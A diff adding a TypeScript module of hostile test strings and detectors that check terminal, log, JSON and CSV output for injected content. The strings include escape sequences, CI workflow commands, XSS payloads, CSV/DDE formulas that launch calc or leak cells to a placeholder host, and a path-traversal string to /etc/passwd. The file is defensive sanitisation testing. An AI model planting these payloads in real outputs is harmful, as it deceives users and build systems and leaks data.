@@ -1,0 +1,139 @@
+/** Texts that a customer, a file or a service could put into a name to deceive whoever reads the output, or what reads it. */
+export const hostileTexts: Readonly<Record<string, string>> = {
+  'colour codes': '\u001b[32mAll good\u001b[0m',
+  'a cleared screen': '\u001b[2J\u001b[H',
+  'a hyperlink': '\u001b]8;;https://example.invalid\u0007click\u001b]8;;\u0007',
+  'a hyperlink with the other ending': '\u001b]8;;https://example.invalid\u001b\\click\u001b]8;;\u001b\\',
+  'a window title': '\u001b]0;all good\u0007',
+  'a clipboard write': '\u001b]52;c;cm0gLXJm\u0007',
+  'a device query': '\u001b[6n\u001bP$q"p\u001b\\',
+  'an 8-bit control sequence': '\u009b31mred',
+  'an 8-bit hyperlink': '\u009d8;;https://example.invalid\u009cclick',
+  'a carriage return': 'Loss\rGain',
+  'a backspace': 'abc\b\b\bxyz',
+  'a delete': 'abc\u007f\u007f',
+  'a line break': 'Cash\nPlan: 0 to delete.',
+  'a next line': 'Cash\u0085::error::no',
+  'a form feed': 'Cash\f::error::no',
+  'a right-to-left override': 'abc\u202egnp.exe',
+  'bidi isolates': '\u2066abc\u2069',
+  'an Arabic letter mark': '\u061cabc',
+  'a zero width space': 'Ca\u200bsh',
+  'a word joiner': 'Ca\u2060sh',
+  'a soft hyphen': 'Ca\u00adsh',
+  'a byte order mark': '\ufeffCash',
+  'tag characters': 'Cash\u{e0041}\u{e0042}',
+  'a line separator': 'Cash\u2028::error::no',
+  'a paragraph separator': 'Cash\u2029##[error]no',
+  'a lone surrogate': 'Cash\ud800',
+  'half a character at the beginning': '\udc00Cash',
+  'a null': 'Cash\u0000',
+  'a workflow command': '::error file=a.ts::boom',
+  'a workflow command that stops others': '::stop-commands::x',
+  'a workflow command that hides': '::add-mask::Cash',
+  'an indented workflow command': '   ::set-output name=a::b',
+  'a workflow command after a tab': '\t::warning::b',
+  'a workflow command after a no-break space': '\u00a0\u3000::warning::b',
+  'a workflow command on its second line': 'Cash\n::error::no',
+  'a workflow command after a carriage return': 'Cash\r\n::error::no',
+  'an old workflow command': 'x ##[group]boom',
+  'an old workflow command with its name': 'x ##[set-env name=A]boom',
+  'an Azure command': 'x ##vso[task.setvariable variable=a]b',
+  'a TeamCity command': "x ##teamcity[buildStatus status='SUCCESS']",
+  'a GitLab section': '\u001b[0Ksection_start:1560896352:x[collapsed=true]\r\u001b[0Kx',
+  'an HTML comment': '<!-- ledgerform -->',
+  'the end of an HTML comment': '--><img src=x onerror=alert(1)>',
+  'a script': '<script>alert(1)</script>',
+  'the end of a script': '</script><script>alert(1)</script>',
+  'an attribute': '" onmouseover="alert(1)" x=\'',
+  'a character reference': '&lt;b&gt;&#x202e;',
+  'the end of details': '</summary></details><h1>0 changes</h1>',
+  'a CDATA end': ']]><failure/>',
+  'a Markdown link': '[Cash](https://example.invalid)',
+  'a Markdown image': '![x](https://example.invalid/x.png)',
+  'a Markdown script link': '[x](javascript:alert(1))',
+  'a Markdown table': 'a | b |\n| --- | --- |\n| c | d',
+  backticks: '```` ``` ` x `',
+  'a code fence': '```\n# 0 changes\n```',
+  'a mention': '@everyone @acme/finance',
+  'an issue reference': 'closes #1, fixes acme/books#2',
+  emphasis: '**Cash** _x_ ~~y~~ # z',
+  'a bare URL': 'https://example.invalid/?a=b www.example.invalid',
+  'a formula': '=1+1',
+  'a formula that runs a program': "=cmd|'/c calc'!A1",
+  'a formula that leaks': '=HYPERLINK("https://example.invalid/?"&A1,"Cash")',
+  'a formula with plus': '+1+cmd',
+  'a formula with minus': '-1+cmd',
+  'a formula with at': '@SUM(A1:A9)',
+  'a formula after a tab': '\t=1+1',
+  'a formula after a carriage return': '\r=1+1',
+  'a formula after a line break': 'x\n=1+1',
+  'a formula after white space': ' \u00a0=1+1',
+  'a formula after a joiner': '\u200d=1+1',
+  'a formula with a full-width equals sign': '\uff1d1+1',
+  'a formula with a full-width plus': '\uff0b1',
+  'a formula with a full-width minus': '\uff0d1',
+  'a formula with a full-width at': '\uff20SUM(A1)',
+  'a formula with a minus sign': '\u22121+cmd',
+  'a formula in the second cell': 'x,=1+1',
+  'a formula in the second cell, elsewhere': 'x;=1+1',
+  'a formula in the second cell, after a quote': 'x",=1+1,"',
+  'a dynamic data exchange': "%0A-3+3+cmd|' /C calc'!D2",
+  'a member of objects': '__proto__',
+  'another member of objects': 'constructor',
+  'a path': '../../../../etc/passwd',
+  'a format': '%s %n %x ${x} {{x}} $(x) `x`',
+  'many marks above each other': `a${'\u0301'.repeat(300)}`,
+  'a wide emoji': '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
+};
+
+/** Runners of continuous integration: the newer sign stands first in a line that they trim, the older ones anywhere. */
+const order = /^\s*::|##\w*\[/u;
+/** What a terminal could obey or be deceived by, but for the two joiners that words and emoji need. */
+const unseen = /(?![\u200c\u200d])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
+/** Our own colours: nothing else may begin with an escape. */
+// biome-ignore lint/suspicious/noControlCharactersInRegex: colours are such characters
+const colour = /\u001b\[(?:[0-9]{1,2})m/g;
+
+/** What is wrong with a text on a terminal or in a log, line by line; null when nothing is. */
+export function harmInLines(text: string, colours: 'plain' | 'coloured' = 'plain'): string | null {
+  for (const line of text.split('\n')) {
+    const bare = colours === 'coloured' ? line.replace(colour, '') : line;
+    if (unseen.test(bare)) return `a control in ${JSON.stringify(line)}`;
+    if (order.test(bare)) return `an order to a runner in ${JSON.stringify(line)}`;
+    if (colours === 'coloured' && order.test(line)) return `an order to a runner in ${JSON.stringify(line)}`;
+  }
+  return null;
+}
+
+/** What is wrong with a JSON document as text; null when nothing is. */
+export function harmInJson(text: string): string | null {
+  JSON.parse(text);
+  if (!text.endsWith('\n')) return 'no line break at its end';
+  return /[\u200c\u200d]/.test(text) ? 'a joiner' : harmInLines(text);
+}
+
+/** What is wrong with comma-separated values, read by a strict reader that takes `,`, `;` and tabs for separators; null when nothing is. */
+export function harmInCsv(text: string, columns: number): string | null {
+  if (!/^(?:[^\r\n]*\r\n)*$/.test(text)) return 'a line break inside of a row';
+  const inLines = harmInLines(text.replaceAll('\r\n', '\n'));
+  if (inLines) return inLines;
+  for (const line of text.split('\r\n').slice(0, -1)) {
+    const cells = cellsOf(line);
+    if (cells?.length !== columns) return `not ${columns} cells in ${JSON.stringify(line)}`;
+    const formula = cells.find((cell) =>
+      /^[\s\u200c\u200d]*[=+\-@|%\uff1d\uff0b\uff0d\uff20\u2212]/u.test(cell),
+    );
+    if (formula !== undefined) return `a formula in ${JSON.stringify(formula)}`;
+    // A reader with another separator must not find one outside of quotes.
+    if (/[;\t]/.test(line.replace(/"(?:[^"]|"")*"/g, ''))) return `a separator in ${JSON.stringify(line)}`;
+  }
+  return null;
+}
+
+/** The cells of a row as RFC 4180 has them; null where it is none. */
+export function cellsOf(line: string): readonly string[] | null {
+  if (!/^(?:"(?:[^"]|"")*"|[^",]*)(?:,(?:"(?:[^"]|"")*"|[^",]*))*$/.test(line)) return null;
+  const cells = line.match(/(?<=^|,)(?:"(?:[^"]|"")*"|[^",]*)(?=,|$)/g) ?? [];
+  return cells.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
+}
